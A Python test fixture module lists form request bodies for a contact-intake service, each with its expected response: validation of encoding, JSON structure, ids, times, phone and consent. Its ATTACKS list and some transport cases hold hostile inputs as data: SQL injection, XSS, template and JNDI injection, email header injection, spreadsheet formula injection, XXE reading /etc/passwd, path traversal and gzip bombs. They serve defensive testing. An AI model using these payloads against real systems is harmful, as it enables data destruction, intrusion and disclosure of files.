"""The catalogue of form bodies: a name, what arrives, and what must become of it.

`taken`, `taken, warned: …`, `reject: …` or the HTTP answer `4xx …`; the words are the beginning of what is said.
"""

from __future__ import annotations

import gzip
import json
from typing import Any

Case = tuple[str, bytes, str]
EMAIL = "sara@example.com"
TAKEN = "taken"


def form(**fields: Any) -> bytes:
    """A nested body that is taken, but for what is given here."""
    whole: dict[str, Any] = {"id": "f-1", "contact": {"email": EMAIL}} | fields
    return json.dumps({name: value for name, value in whole.items() if value is not ...}, ensure_ascii=False).encode()


def person(**fields: Any) -> bytes:
    """A body that differs in the contact alone."""
    return form(contact={"email": EMAIL} | fields)


def data(value: Any) -> bytes:
    """A body that differs in one answer alone."""
    return form(data={"answer": value})


def nested(levels: int) -> Any:
    """An object within an object, so many levels deep."""
    value: Any = "x"
    for _ in range(levels):
        value = {"a": value}
    return value


TRANSPORT: list[Case] = [
    ("nothing", b"", "400 the body is empty"),
    ("white space", b" \r\n\t ", "400 the body is empty"),
    ("one byte too many", b" " * (1024 * 1024 + 1), "413 the body is larger than 1 MiB"),
    ("gzip", gzip.compress(form()), "400 the body is not UTF-8"),
    ("a gzip bomb", gzip.compress(b"0" * 10_000_000), "400 the body is not UTF-8"),
    ("UTF-16", form().decode().encode("utf-16"), "400 the body is not UTF-8"),
    ("Windows-1256", person(name="سارة").decode().encode("cp1256"), "400 the body is not UTF-8"),
    ("a byte-order mark", b"\xef\xbb\xbf" + form(), TAKEN),
    ("an overlong encoding", b'{"id": "\xc0\xaf"}', "400 the body is not UTF-8"),
    ("form encoding", b"id=1&email=a%40example.com", "400 the body is not JSON: Expecting value at line 1, column 1"),
    ("multipart", b"--x\r\nContent-Disposition: form-data\r\n", "400 the body is not JSON"),
    ("HTML", b"<html></html>", "400 the body is not JSON"),
    ("XML with an entity", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "400 the body is not JSON"),
    ("cut off", form()[:-4], "400 the body is not JSON"),
    ("two objects", form() + form(), "400 the body is not JSON: Extra data"),
    ("a comma at the end", b'{"id": "1",}', "400 the body is not JSON"),
    ("single quotes", b"{'id': '1'}", "400 the body is not JSON"),
    ("a comment", b'{"id": "1" /* x */}', "400 the body is not JSON"),
    ("a bare NUL", b'{"id": "\x00"}', "400 the body is not JSON: Invalid control character"),
    ("depth 10,000", b"[" * 10_000 + b"]" * 10_000, "400 the body is nested deeper than 8 levels"),
    ("depth 500,000 of objects", b'{"a":' * 150_000, "400 the body is nested deeper than 8 levels"),
    ("brackets in a text", data("[" * 500), TAKEN),
    ("quotes and brackets in a text", data('"\\"[[[[[[[[[[[['), TAKEN),
    ("a key twice", b'{"id": "1", "id": "2"}', "400 the body gives 'id' twice"),
    ("a key twice, deep", b'{"id": "1", "contact": {"email": "a@b.co", "email": "c@d.co"}}', "400 the body gives 'email' twice"),
    ("a key twice, escaped", b'{"id": "1", "\\u0069d": "2"}', "400 the body gives 'id' twice"),
    ("NaN", b'{"id": NaN}', "400 the body has NaN"),
    ("minus infinity", b'{"id": -Infinity}', "400 the body has -Infinity"),
    ("infinity by size", b'{"id": 1e999}', "400 the body has a number that is too large"),
    ("5,000 digits", b'{"id": ' + b"9" * 5_000 + b"}", "400 the body has a number that is too large"),
    ("half a character", b'{"id": "\\ud800"}', "400 the body has half a character"),
    ("half a character as a key", b'{"\\udc00": 1}', "400 the body has half a character"),
    ("both halves", b'{"id": "1", "email": "sara@example.com", "name": "\\ud83d\\ude00"}', TAKEN),
    ("a list", b"[]", "422 the body is not a JSON object"),
    ("null", b"null", "422 the body is not a JSON object"),
    ("a text", b'"x"', "422 the body is not a JSON object"),
]

FRAME: list[Case] = [
    ("as it should be", form(), TAKEN),
    ("flat", json.dumps({"id": "1", "email": EMAIL, "name": "Sara", "utm": "x"}).encode(), TAKEN),
    ("empty object", b"{}", "reject: email is missing"),
    ("no id", form(id=...), "reject: id is missing: without it the same form could be taken twice"),
    ("id null", form(id=None), "reject: id is missing"),
    ("id of spaces", form(id="  "), "reject: id is missing"),
    ("id of marks that nobody sees", form(id="\u200f\u202e"), "reject: id is missing"),
    ("id a number", form(id=17), TAKEN),
    ("id true", form(id=True), "reject: id is not text"),
    ("id an object", form(id={}), "reject: id is not text"),
    ("id of 200", form(id="x" * 200), TAKEN),
    ("id of 201", form(id="x" * 201), "reject: id is not 1 to 200 printable characters"),
    ("id of a private character", form(id="\ue000"), "reject: id is not 1 to 200 printable characters"),
    ("event known", form(event="booking.created"), TAKEN),
    ("event almost known", form(event="booking.create"), "reject: event 'booking.create' is not known (did you mean booking.created?)"),
    ("event unknown", form(event="zzz"), "reject: event 'zzz' is not known"),
    ("event a list", form(event=["form.submitted"]), "reject: event is not text"),
    ("at in UTC", form(at="2026-11-21T08:00:00Z"), TAKEN),
    ("at with an offset", form(at="2026-11-21T11:00:00+03:00"), TAKEN),
    ("at four minutes ahead", form(at="2026-11-21T09:04:00Z"), TAKEN),
    ("at six minutes ahead", form(at="2026-11-21T09:06:00Z"), "reject: at '2026-11-21T09:06:00Z' is in the future"),
    ("at without a zone", form(at="2026-11-21T08:00:00"), "reject: at has no time zone"),
    ("at a date", form(at="2026-11-21"), "reject: at has no time zone"),
    ("at on no day", form(at="2026-02-30T08:00:00Z"), "reject: at '2026-02-30T08:00:00Z' is not a time"),
    ("at before the calendar", form(at="0001-01-01T00:00:00+14:00"), "reject: at '0001-01-01T00:00:00+14:00' is not a time"),
    ("at in seconds", form(at=1_700_000_000), "reject: at '1700000000' is not a time"),
    ("at in words", form(at="أمس"), "reject: at 'أمس' is not a time"),
    ("contact a text", form(contact="Sara"), "reject: contact is not an object"),
    ("contact a list", form(contact=[EMAIL]), "reject: contact is not an object"),
    ("contact missing", form(contact=...), "reject: email is missing"),
    ("data a text", form(data="x"), "reject: data is not an object"),
    ("email twice", form(email="other@example.com"), "reject: email is given twice"),
    ("a field in data and beside it", form(data={"utm": "a"}, utm="b"), "reject: utm is given twice"),
    ("200 fields", form(data={str(n): n for n in range(195)}), TAKEN),
    ("10,000 fields", form(data={str(n): n for n in range(10_000)}), "reject: the form has more than 200 fields"),
    ("10,000 items", data(list(range(10_000))), "reject: the form has more than 200 fields"),
    ("eight levels", form(data=nested(7)), TAKEN),
    ("nine levels", form(data=nested(8)), "400 the body is nested deeper than 8 levels"),
    ("a field without a name", form(data={" ": 1}), "reject: data has a field without a name"),
    ("a name of 101", form(data={"x" * 101: 1}), "reject: data has a field whose name is longer"),
    ("names that look the same", form(data={"a\u200f": 1, "a": 2}), "reject: data.a is given twice"),
]

PEOPLE: list[Case] = [
    ("name an object", person(name={"first": "Sara"}), "reject: name is not text"),
    ("name of 2,001", person(name="س" * 2_001), "reject: contact.name is longer than 2,000 characters"),
    ("name of 10,000", person(name="x" * 10_000), "reject: contact.name is longer than 2,000 characters"),
    ("name with tatweel and marks", person(name="ســـارة مُحَمَّد"), TAKEN),
    ("language", person(language="ar"), TAKEN),
    ("language with a country", person(language="ar-SA"), TAKEN),
    ("language in words", person(language="Arabic"), "taken, warned: language was left out"),
    ("country in small letters", person(country="sa"), TAKEN),
    ("country in words", person(country="Saudi Arabia"), "taken, warned: country was left out"),
    ("country of nobody", person(country="XX"), "taken, warned: country was left out"),
    ("zone", person(zone="Asia/Riyadh"), TAKEN),
    ("zone misspelt", person(zone="Asia/Riyad"), "reject: zone 'Asia/Riyad' is not a time zone (did you mean Asia/Riyadh?)"),
    ("zone as a path", person(zone="../../etc/passwd"), "reject: zone '../../etc/passwd' is not a time zone"),
    ("zone as an offset", person(zone="+03:00"), "reject: zone '+03:00' is not a time zone"),
    ("phone of the world", person(phone="+966 50 123 4567"), TAKEN),
    ("phone of the country", person(phone="050 123 4567", country="SA"), TAKEN),
    ("phone in Arabic digits", person(phone="٠٥٠١٢٣٤٥٦٧", country="SA"), TAKEN),
    ("phone without a country", person(phone="050 123 4567"), "taken, warned: phone was left out"),
    ("phone in words", person(phone="call me"), "taken, warned: phone was left out"),
    ("consent true", form(consent=True), "taken, agreed"),
    ("consent in Arabic", form(consent="نعم"), "taken, agreed"),
    ("consent 1", form(consent=1), "taken, agreed"),
    ("consent with its words", form(consent={"marketing": True, "wording": "Send me tips"}), "taken, agreed"),
    ("consent false", form(consent=False), TAKEN),
    ("consent no", form(consent="لا"), TAKEN),
    ("consent maybe", form(consent="maybe"), "taken, warned: consent was not taken"),
    ("consent a list", form(consent=[True]), "taken, warned: consent was not taken"),
    ("consent to something else", form(consent={"sale_of_data": True}), "taken, warned: consent.sale_of_data was left out"),
]

ATTACKS: list[Case] = [
    (f"attack {number}", person(name=text, company=text), TAKEN)
    for number, text in enumerate(
        [
            "'; DROP TABLE contacts; --",
            "<script>alert(1)</script>",
            '"><img src=x onerror=alert(1)>',
            "{{7*7}}",
            "{% for a in range(10**9) %}{% endfor %}",
            "${jndi:ldap://x/a}",
            "Sara\r\nBcc: victim@example.com",
            "=?utf-8?q?Hi=0ABcc=3A_victim=40example.com?=",
            '=HYPERLINK("x")',
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\u202egnp.exe",
            "a\u200db",
            "\x1b[31mred\x07",
            "../../etc/passwd",
            "javascript:alert(1)",
            "💥" * 50,
        ]
    )
]

BODIES: list[Case] = TRANSPORT + FRAME + PEOPLE + ATTACKS
